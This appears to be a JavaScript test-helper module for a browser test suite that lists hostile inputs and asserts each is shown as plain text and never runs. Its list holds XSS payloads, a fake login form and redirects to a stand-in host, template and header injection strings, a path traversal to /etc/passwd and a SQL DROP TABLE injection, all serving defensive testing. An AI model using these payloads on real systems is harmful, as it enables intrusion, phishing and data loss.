// What somebody may type who means harm, or only types strangely; and how to see that it stayed text.
import assert from "node:assert/strict";
import { eventually } from "./waiting.mjs";

/** The sign that something of it ran. */
const CANARY = "doorbellCanary";
const RING = `globalThis.${CANARY}=1`;

/** Each is a text; none of them is markup anywhere. */
export const PAYLOADS = [
  `<script>${RING}</script>`,
  `</script><script>${RING}</script>`,
  `<img src=x onerror="${RING}">`,
  `"><img src=x onerror=${RING}>`,
  `' onmouseover='${RING}' autofocus onfocus='${RING}`,
  `<svg onload="${RING}"><circle r="9"/></svg>`,
  `<svg><script>${RING}</script></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RING}">`,
  `<iframe srcdoc="<script>parent.${CANARY}=1</script>"></iframe>`,
  `<iframe src="javascript:${RING}"></iframe>`,
  `<a href="javascript:${RING}">click me</a>`,
  `javascript:${RING}`,
  `data:text/html,<script>${RING}</script>`,
  `<body onload="${RING}"><h1>Big</h1>`,
  `<form action="https://evil.test"><input name="password"><button>Log in</button></form>`,
  `<style>* { display: none !important }</style>`,
  `<link rel="stylesheet" href="https://evil.test/x.css">`,
  `<base href="https://evil.test/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.test/">`,
  `<template><img src=x onerror="${RING}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RING}>">`,
  `<!--><img src=x onerror="${RING}">-->`,
  `&lt;script&gt;${RING}&lt;/script&gt; &amp;amp; &#60;b&#62; &nbsp;`,
  `<b>bold</b> & "quoted" 'single' \`tick\``,
  "{{7*7}} ${7*7} {% raw %} <%= 7*7 %> #{7*7}",
  `\${${RING}} {{constructor.constructor("${RING}")()}}`,
  "**bold** [link](javascript:alert(1)) `code` # heading",
  "\\u003cscript\\u003e \\x3cscript\\x3e %3Cscript%3E",
  "Bcc: victim@evil.test\nSubject: you won\n\nbody",
  "name\r\nBcc: victim@evil.test\r\n\r\n<h1>body</h1>",
  "right to left: \u202Egnp.exe\u202C, isolated \u2066abc\u2069",
  "zero\u200Bwidth\u200Djoined\uFEFFmark",
  "combining: Z\u0351\u036B\u0343\u036A\u0302a\u0300\u0301\u0302l\u0334\u0335g\u0336\u0337o\u0338",
  "emoji: 👩‍👩‍👧‍👦 🇨🇿 ✊🏿 and \u{1F9FF}",
  "Příliš žluťoučký kůň úpěl ďábelské ódy",
  "العربية עברית 日本語 한국어 ไทย",
  `a-very-long-word-${"x".repeat(600)}`,
  `https://shop.test/${"path/".repeat(60)}?q=<script>&r="'`,
  "first line\nsecond line\n\n\n\nlast line",
  "   spaces   inside\tand\ttabs   ",
  "__proto__",
  "constructor",
  "null",
  "../../../../etc/passwd",
  "'; DROP TABLE conversations; --",
];

/** Those that are a name: one line, not long. */
export const NAMES = PAYLOADS.filter((payload) => payload.length <= 100 && !/[\r\n]/.test(payload));

/**
 * Fails if any of it ran, or became an element, on a page or in its frames. That it is shown is for the caller to say, with
 * `assertShows`. A dialog or a refused request fails the journey by itself.
 *
 * @param {import("playwright-core").Page} page
 */
export async function assertHarmless(page) {
  for (const frame of page.frames()) {
    const harm = await frame.evaluate(harmIn, CANARY);
    assert.deepEqual(harm, [], `harm at ${frame.url()}`);
  }
}

/**
 * Fails if a text is not shown as it was typed: spaces may run together, as in any page. Waits for it.
 *
 * @param {import("playwright-core").Locator} place
 * @param {string} payload
 */
export async function assertShows(place, payload) {
  const plain = (/** @type {string} */ text) => text.replace(/\s+/g, " ").trim();
  const isShown = async () => (await place.allTextContents()).some((text) => plain(text).includes(plain(payload)));
  await eventually(`${JSON.stringify(payload)} is shown as it was typed`, isShown);
}

/** What ran in a page, and the elements in it that nobody but a payload would have made. @param {string} canary */
function harmIn(canary) {
  const addresses = ["href", "src", "srcdoc", "action", "content"];
  const isOurs = (/** @type {Attr} */ { name, value }) =>
    !(name.startsWith("on") || (addresses.includes(name) && /^\s*javascript:|evil\.test|doorbellCanary/i.test(value)));
  // An address that was typed may be a link, if it is the very text of that link.
  const isAsTyped = (/** @type {Element} */ element) => element instanceof HTMLAnchorElement && /^https?:$/.test(element.protocol)
    && URL.parse(element.textContent)?.href === element.href && /noopener/.test(element.rel);
  const isHarmless = (/** @type {Element} */ element) => [...element.attributes].every((one) => isOurs(one) || (one.name === "href" && isAsTyped(element)))
    && !(/^(script|style)$/i.test(element.localName) && /doorbellCanary|\* \{ display: none/.test(element.textContent))
    && !(element.localName === "img" && element.getAttribute("src") === "x") && element.localName !== "mglyph";
  /** @param {Document | ShadowRoot} root @returns {Element[]} */
  const elements = (root) => [...root.querySelectorAll("*")].flatMap((element) => [element, ...(element.shadowRoot ? elements(element.shadowRoot) : [])]);
  const made = elements(document).filter((element) => !isHarmless(element)).map(({ outerHTML }) => outerHTML);
  return [...(canary in globalThis ? ["a script ran"] : []), ...made];
}
